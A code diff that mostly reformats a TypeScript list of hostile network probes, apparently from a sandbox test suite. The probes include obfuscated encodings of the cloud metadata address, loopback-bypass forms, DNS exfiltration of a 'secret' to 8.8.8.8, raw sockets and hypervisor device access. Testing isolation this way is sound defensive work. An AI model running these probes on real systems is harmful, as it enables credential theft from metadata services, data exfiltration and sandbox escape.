@@ -11,16 +11,25 @@ export const networkCommands: readonly HostileCommand[] = [
     subject: 'network',
     tries: 'reaches the metadata server by its address, however it is written',
     command: attempts(
-      ...['169.254.169.254', '2852039166', '0xA9FEA9FE', '0251.0376.0251.0376', '169.254.43518', '[::ffff:169.254.169.254]', 'fd20:ce::254', '::ffff:a9fe:a9fe'].map((host) =>
-        connect(host),
-      ),
+      ...[
+        '169.254.169.254',
+        '2852039166',
+        '0xA9FEA9FE',
+        '0251.0376.0251.0376',
+        '169.254.43518',
+        '[::ffff:169.254.169.254]',
+        'fd20:ce::254',
+        '::ffff:a9fe:a9fe',
+      ].map((host) => connect(host)),
     ),
   },
   {
     subject: 'network',
     tries: 'reaches the metadata server by its name, and by names of others that lead to it',
     command: attempts(
-      ...['metadata.google.internal', 'metadata', '169.254.169.254.nip.io', 'instance-data'].map((host) => connect(host)),
+      ...['metadata.google.internal', 'metadata', '169.254.169.254.nip.io', 'instance-data'].map((host) =>
+        connect(host),
+      ),
       'getent hosts metadata.google.internal',
     ),
   },
@@ -37,14 +46,16 @@ export const networkCommands: readonly HostileCommand[] = [
     subject: 'network',
     tries: 'reaches a server of this machine on loopback and on its other addresses',
     command: attempts(
-      ...['127.0.0.1', 'localhost', '0.0.0.0', '127.1', '2130706433', '::1', '::ffff:127.0.0.1', '@ADDRESS@'].map((host) => connect(host, '@PORT@')),
+      ...['127.0.0.1', 'localhost', '0.0.0.0', '127.1', '2130706433', '::1', '::ffff:127.0.0.1', '@ADDRESS@'].map(
+        (host) => connect(host, '@PORT@'),
+      ),
     ),
   },
   {
     subject: 'network',
     tries: 'connects to an abstract socket of the host',
-    command: `${attempts("perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, pack(\"S a*\", AF_UNIX, \"\\0@SOCKET@\")) or exit 1'")}
-      grep -c @SOCKET@ /proc/net/unix`,
+    command: `${attempts('perl -MSocket -e \'socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, pack("S a*", AF_UNIX, "\\0@SOCKET@")) or exit 1\'')}
+      grep -c @SOCKET@ /proc/net/unix; true`,
     seen: { stdout: 'closed\n0\n' },
     needs: ['perl'],
   },
@@ -57,20 +68,57 @@ export const networkCommands: readonly HostileCommand[] = [
   {
     subject: 'network',
     tries: 'makes interfaces and routes of its own',
-    command: attempts('ip link add d type dummy', 'ip link add a type veth peer b', 'ip addr add 10.0.0.1/8 dev lo', 'ip route add default dev lo', 'ip link set lo down', ': <> /dev/net/tun'),
+    command: attempts(
+      'ip link add d type dummy',
+      'ip link add a type veth peer b',
+      'ip addr add 10.0.0.1/8 dev lo',
+      'ip route add default dev lo',
+      'ip link set lo down',
+      ': <> /dev/net/tun',
+    ),
     needs: ['ip'],
   },
   {
     subject: 'network',
     tries: 'sends what it has read in questions for names',
-    command: attempts('echo secret > /dev/udp/8.8.8.8/53', 'getent hosts secret.example.org', 'getent ahostsv6 example.org', connect('8.8.8.8', 53), connect('2001:4860:4860::8888', 53)),
+    command: attempts(
+      'echo secret > /dev/udp/8.8.8.8/53',
+      'getent hosts secret.example.org',
+      'getent ahostsv6 example.org',
+      connect('8.8.8.8', 53),
+      connect('2001:4860:4860::8888', 53),
+    ),
   },
   {
     subject: 'network',
     tries: 'opens sockets that see packets or speak with parts of the kernel',
-    command: sockets([17, 3, 0], [2, 3, 1], [2, 10, 0], [38, 5, 0], [40, 1, 0], [16, 3, 9], [16, 3, 12], [2, 1, 132], [15, 3, 2], [31, 3, 1], [44, 3, 0]),
+    command: sockets(
+      [17, 3, 0],
+      [2, 3, 1],
+      [2, 10, 0],
+      [38, 5, 0],
+      [40, 1, 0],
+      [16, 3, 9],
+      [16, 3, 12],
+      [2, 1, 132],
+      [15, 3, 2],
+      [31, 3, 1],
+      [44, 3, 0],
+    ),
     seen: {
-      stdout: [EAFNOSUPPORT, EPERM, EPERM, EAFNOSUPPORT, EAFNOSUPPORT, EPROTONOSUPPORT, EPROTONOSUPPORT, EPROTONOSUPPORT, EAFNOSUPPORT, EAFNOSUPPORT, EAFNOSUPPORT]
+      stdout: [
+        EAFNOSUPPORT,
+        EPERM,
+        EPERM,
+        EAFNOSUPPORT,
+        EAFNOSUPPORT,
+        EPROTONOSUPPORT,
+        EPROTONOSUPPORT,
+        EPROTONOSUPPORT,
+        EAFNOSUPPORT,
+        EAFNOSUPPORT,
+        EAFNOSUPPORT,
+      ]
         .map((errno) => `${errno}\n`)
         .join(''),
     },
@@ -79,12 +127,22 @@ export const networkCommands: readonly HostileCommand[] = [
   {
     subject: 'network',
     tries: 'finds a proxy or a name server that nobody gave it',
-    command: attempts('env | grep -i proxy', 'grep -q nameserver /etc/resolv.conf', connect('127.0.0.53', 53), connect('127.0.0.1', 3128)),
+    command: attempts(
+      'env | grep -i proxy',
+      'grep -q nameserver /etc/resolv.conf',
+      connect('127.0.0.53', 53),
+      connect('127.0.0.1', 3128),
+    ),
   },
   {
     subject: 'network',
     tries: 'speaks with the hypervisor',
-    command: attempts(': <> /dev/vsock', ': <> /dev/vhost-vsock', ': <> /dev/kvm', "perl -e 'socket(S, 40, 1, 0) or exit 1'"),
+    command: attempts(
+      ': <> /dev/vsock',
+      ': <> /dev/vhost-vsock',
+      ': <> /dev/kvm',
+      "perl -e 'socket(S, 40, 1, 0) or exit 1'",
+    ),
     needs: ['perl'],
   },
 ];
